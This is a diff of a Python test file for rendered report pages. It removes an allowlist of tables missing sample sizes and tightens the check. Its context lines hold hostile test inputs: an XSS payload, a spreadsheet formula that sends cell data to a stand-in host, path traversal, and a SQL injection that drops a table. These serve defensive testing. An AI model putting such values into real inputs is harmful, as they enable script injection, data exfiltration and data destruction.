@@ -20,16 +20,6 @@ ATTACK = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://a.example/?"&A1,"x")'
 DEALERS = (ATTACK, "../../../outside", FORMULA, "nord'; DROP TABLE surveys; --", "{0.__class__}", "Ä" * 200)
 SECRET = "value-of-a-token-7f3a"
-#: Tables of other rooms that still show estimates without their n: a list that may only grow shorter.
-WITHOUT_N = {
-    ("05_misattribution", "anchor_set"),
-    ("09_who_to_call", "contacted_share"),
-    ("12_word_of_mouth", "verdict"),
-    ("14_priorities", "general_share"),
-    ("14_priorities", "noise_share"),
-    ("14_priorities", "effort_low"),
-}
-
 GOOD = (
     f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
     f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
@@ -284,5 +274,4 @@ def test_the_page_of_every_notebook_of_the_house_holds_nothing_that_must_not_lea
     made_of = MadeOf(collection="Demo", notebook=path.name, made_at="now")
     page = render(made, title=title_of(made, path.stem), folder=path.parent, made_of=made_of)
     assert scan(page, links=links, folders=[str(Path.home()), str(ROOT)]) == []
-    known = {column for stem, column in WITHOUT_N if stem == path.stem}
-    assert [names for names in tables_without_n(page) if not known & set(names)] == []
+    assert tables_without_n(page) == []
